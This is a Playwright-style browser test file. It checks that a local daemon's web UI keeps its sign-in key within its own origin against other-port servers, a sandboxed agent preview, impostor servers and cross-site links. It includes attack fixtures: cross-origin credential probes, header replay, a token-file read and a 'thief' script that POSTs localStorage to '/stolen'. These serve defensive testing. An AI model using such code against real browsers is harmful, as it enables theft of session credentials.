/**
 * Who gets in by a browser: the key of the page stays with its origin. A real Chromium that is signed in visits a
 * server on another port of this machine, which is what the preview of an agent is, and that server learns nothing
 * and can do nothing. Links from other sites, used addresses, tabs and signing out are tried as a person would.
 */
import assert from 'node:assert/strict'
import { mkdirSync, writeFileSync } from 'node:fs'
import { createServer, type IncomingHttpHeaders } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { after, test } from 'node:test'
import { without } from '../rig/needs.ts'
import { readOr, until } from '../rig/rig.ts'
import { browseForTests, newBrowser, noBrowser, signedIn, web, welcome } from './browser.ts'
import { lookAt } from './looked.ts'

browseForTests()

const skip = noBrowser
const expired = 'This link has expired or was already used.'

/** A server of somebody else on this machine: `heard` has the headers of every request to it. */
async function otherServer(body: string) {
  const heard: IncomingHttpHeaders[] = []
  const server = createServer((request, response) => {
    heard.push(request.headers)
    response.setHeader('content-type', 'text/html').end(`<!doctype html><title>other</title>${body}`)
  })
  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve))
  after(() => void server.close())
  web.others.push(`http://127.0.0.1:${(server.address() as AddressInfo).port}`)
  return { url: web.others.at(-1) ?? '', heard }
}

async function printedLink(): Promise<string> {
  const { code, stdout, stderr } = await web.rig.loop(['ui', '--print'])
  assert.equal(code, 0, stderr)
  return stdout.trim()
}

/** Runs in a page of another origin: everything by which it could ask loopd in the name of its visitor. */
const attempts = (origin: string) => `(async () => {
  const path = '${origin}/v1/loops'
  const read = async (what, asked) => [what, await asked.then(async r => r.type + ' ' + r.status + ' ' + await r.text(), () => 'failed')]
  const events = what => new Promise(resolve => {
    const source = new EventSource('${origin}/v1/feed?list=0', { withCredentials: true })
    source.onmessage = () => resolve([what, 'open'])
    source.onopen = () => resolve([what, 'open'])
    source.onerror = () => resolve([what, 'failed'])
  })
  const framed = what => new Promise(resolve => {
    const frame = document.createElement('iframe')
    frame.src = '${origin}/'
    frame.onload = () => {
      let inside = 'closed'
      try { inside = frame.contentWindow.localStorage.length + ' readable' } catch {}
      resolve([what, inside])
    }
    document.body.append(frame)
  })
  return Promise.all([
    read('fetch with credentials', fetch(path, { credentials: 'include' })),
    read('fetch without CORS', fetch(path, { mode: 'no-cors', credentials: 'include' })),
    read('post', fetch(path, { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{}' })),
    read('the shell', fetch('${origin}/')),
    events('a stream'),
    framed('a frame'),
  ]).then(all => ({ ...Object.fromEntries(all), storage: Object.keys(localStorage).length, cookies: document.cookie }))
})()`

test('a server on another port of this machine gets nothing by which it could ask loopd', {
  skip,
}, async () => {
  const other = await otherServer('<p>preview</p>')
  const context = await welcome()
  const page = await context.newPage()
  await page.goto('/')
  await page.getByText('Live').waitFor()
  assert.deepEqual(await context.cookies(), [], 'a cookie would be sent to every port')
  // As by a link of the page, so that a referrer could be sent.
  await page.evaluate(`window.location.assign('${other.url}')`)
  await page.waitForURL(`${other.url}/`)
  const [first] = other.heard
  assert.deepEqual([first?.cookie, first?.authorization, first?.referer], [undefined, undefined, undefined])
  assert.deepEqual(await page.evaluate(attempts(web.origin)), {
    'fetch with credentials': 'failed',
    // Refused by loopd with 403, and by its Cross-Origin-Resource-Policy before the page sees that.
    'fetch without CORS': 'failed',
    post: 'failed',
    'the shell': 'failed',
    'a stream': 'failed',
    'a frame': 'closed',
    storage: 0,
    cookies: '',
  })
  await context.close()
})

/**
 * The agent of a loop in a sandbox: it serves a preview, waits for a visitor, and then asks loopd with everything that
 * it was sent and could read.
 */
const previewProgram = (origin: string, data: string) => `
import { createServer } from 'node:http'
import { readFileSync, renameSync, writeFileSync } from 'node:fs'
const say = (file, value) => { writeFileSync(file + '.part', JSON.stringify(value)); renameSync(file + '.part', file) }
const status = (path, headers) => fetch('${origin}' + path, { headers }).then(r => r.status, () => 'not reached')
const readable = path => { try { return readFileSync(path, 'utf8') } catch { return null } }
let visits = 0
const server = createServer(async (request, response) => {
  response.end('preview')
  // A browser asks for an icon too, with this server as its referrer.
  visits += 1
  if (visits > 1) return
  const { host, connection, ...sent } = request.headers
  server.close()
  const token = readable('${data}/loopd.token')
  say('result.json', {
    sent: Object.keys(sent).filter(name => /cookie|authorization|referer/.test(name)),
    token,
    shell: await status('/', {}),
    replayed: await status('/v1/loops', sent),
    asPage: await status('/v1/loops', { ...sent, 'sec-fetch-site': 'same-origin', 'sec-fetch-mode': 'cors', 'sec-fetch-dest': 'empty' }),
    feed: await status('/v1/feed?list=0', sent),
  })
  process.exit()
}).listen(0, '127.0.0.1', () => say('port.json', server.address().port))
`

test('an agent in a sandbox that serves a preview gets no access by its visitor', {
  skip: skip || without('bwrap'),
}, async () => {
  const { rig } = web
  const tree = join(rig.aside, 'preview')
  mkdirSync(tree)
  writeFileSync(join(tree, 'preview.mjs'), previewProgram(web.origin, rig.paths.data))
  const read = (name: string) => JSON.parse(readOr(join(tree, name)) || 'null')
  const more = ['--sandbox', 'required', '--cwd', tree]
  const loop = await rig.background(`${process.execPath} preview.mjs`, 'test -f result.json', ...more)
  await until('the preview to be served', () => read('port.json') !== null)
  web.others.push(`http://127.0.0.1:${read('port.json')}`)
  const context = await welcome()
  const page = await context.newPage()
  await page.goto('/')
  await page.getByText('Live').waitFor()
  await page.goto(web.others.at(-1) ?? '')
  await rig.reaches(loop, 'completed')
  assert.deepEqual(read('result.json'), {
    sent: [],
    token: null,
    shell: 200,
    replayed: 401,
    asPage: 401,
    feed: 401,
  })
  await context.close()
})

test('a window that another site opens shows the page, and gives that site no hold of it', {
  skip,
}, async () => {
  const other = await otherServer(`<a href="${web.origin}/app/machine" target="_blank" rel="opener">link</a>`)
  const context = await welcome()
  const page = await context.newPage()
  // Another name is another site.
  const site = other.url.replace('127.0.0.1', 'localhost')
  web.others.push(site)
  await page.goto(site)
  const opening = context.waitForEvent('page')
  await page.getByRole('link').click()
  const opened = await opening
  await opened.getByRole('heading', { name: 'Machine' }).waitFor()
  assert.equal(await opened.evaluate('window.opener'), null)
  const answer = await opened.goto('/v1/loops')
  assert.equal(answer?.status(), 401, 'an address of the API alone opens nothing')
  await context.close()
})

test('an address of loop ui works once, and is not left in the address bar', { skip }, async () => {
  const link = await printedLink()
  const context = await newBrowser()
  const page = await context.newPage()
  await page.goto(link)
  await page.getByText('Live').waitFor()
  assert.equal(page.url(), `${web.origin}/`)
  await page.goBack()
  assert.equal(page.url(), 'about:blank')
  await context.close()
  const stranger = await newBrowser()
  await lookAt(stranger, [{ at: link, name: 'link-expired', ready: expired }])
  const late = await stranger.newPage()
  await late.goto(link)
  await late.getByText(expired).waitFor()
  await late.getByText('loop ui', { exact: true }).waitFor()
  assert.equal(late.url(), `${web.origin}/`)
  await stranger.close()
})

test('an address with localhost signs in at 127.0.0.1: another program can be localhost', {
  skip,
}, async () => {
  const context = await newBrowser()
  const page = await context.newPage()
  const link = (await printedLink()).replace('127.0.0.1', 'localhost')
  web.others.push(new URL(link).origin)
  await page.goto(link)
  await page.getByText('Live').waitFor()
  assert.equal(page.url(), `${web.origin}/`)
  const { origins } = await context.storageState()
  assert.deepEqual(
    origins.map(({ origin }) => origin),
    [web.origin],
  )
  await context.close()
})

test('a tab that waits at the sign-in page goes on when another tab signs in', { skip }, async () => {
  const context = await newBrowser()
  const waiting = await context.newPage()
  await waiting.goto('/app/machine')
  await waiting.getByRole('heading', { name: 'This browser is not signed in' }).waitFor()
  const other = await context.newPage()
  await other.goto(await printedLink())
  await waiting.getByRole('heading', { name: 'Machine' }).waitFor()
  await context.close()
})

test('a program that takes the port while loopd is away is not sent the key by an open tab', {
  skip,
}, async () => {
  const context = await welcome()
  const page = await context.newPage()
  await page.goto('/')
  await page.getByText('Live').waitFor()
  const gone = new Promise(resolve => web.daemon.child.once('close', resolve))
  web.daemon.child.kill('SIGKILL')
  await gone
  const heard: (string | undefined)[] = []
  const impostor = createServer((request, response) => {
    heard.push(request.headers.authorization)
    response.setHeader('content-type', 'application/json').end('{"proof":"none"}')
  })
  await new Promise<void>(resolve => impostor.listen(Number(new URL(web.origin).port), '127.0.0.1', resolve))
  await until('a request of the tab', () => heard.length > 0)
  impostor.closeAllConnections()
  await new Promise(resolve => impostor.close(resolve))
  assert.deepEqual(new Set(heard), new Set([undefined]))
  await page.getByText('This browser is no longer signed in.').waitFor()
  web.daemon = await web.rig.startDaemon()
  await context.close()
})

/** A program in place of loopd that proves nothing, and serves a script of its own for every script of the page. */
const thief = `fetch('/stolen', { method: 'POST', body: JSON.stringify({ ...localStorage }) })
export const MachinePage = () => null`

test('code that a program serves in place of loopd does not run in an open tab', { skip }, async () => {
  const context = await welcome()
  const page = await context.newPage()
  await page.goto('/')
  await page.getByText('Live').waitFor()
  const gone = new Promise(resolve => web.daemon.child.once('close', resolve))
  web.daemon.child.kill('SIGKILL')
  await gone
  const heard: string[] = []
  const impostor = createServer((request, response) => {
    heard.push(request.url ?? '')
    if (!request.url?.endsWith('.js')) return response.writeHead(503).end()
    return response.setHeader('content-type', 'text/javascript').end(thief)
  })
  await new Promise<void>(resolve => impostor.listen(Number(new URL(web.origin).port), '127.0.0.1', resolve))
  const complaints = web.complaints.length
  // The code of this page is loaded when it is opened.
  await page.getByRole('link', { name: 'Machine' }).click()
  await until('the script to be asked for', () => heard.some(url => url.endsWith('.js')))
  await until('the tab to refuse it', () => web.complaints.length > complaints || heard.includes('/stolen'))
  impostor.closeAllConnections()
  await new Promise(resolve => impostor.close(resolve))
  assert.ok(!heard.includes('/stolen'))
  assert.match(web.complaints.splice(complaints).join('\n'), /integrity/)
  web.daemon = await web.rig.startDaemon()
  await context.close()
})

test('a browser that signs out has no rights left, in no tab', { skip }, async () => {
  const context = await signedIn()
  const [page, other] = [await context.newPage(), await context.newPage()]
  await page.goto('/app/machine')
  await other.goto('/')
  await other.getByText('Live').waitFor()
  const asking = page.waitForRequest(/\/v1\/(?!proof)/)
  await page.reload()
  const { authorization = '' } = await (await asking).allHeaders()
  const status = async () => (await fetch(`${web.origin}/v1/loops`, { headers: { authorization } })).status
  assert.equal(await status(), 200)
  await page.getByRole('button', { name: 'Sign out' }).click()
  await page.getByRole('heading', { name: 'This browser is not signed in' }).waitFor()
  await other.getByText('This browser is no longer signed in.').waitFor()
  assert.equal(await status(), 401)
  assert.equal(await page.evaluate('localStorage.length'), 0)
  await context.close()
})
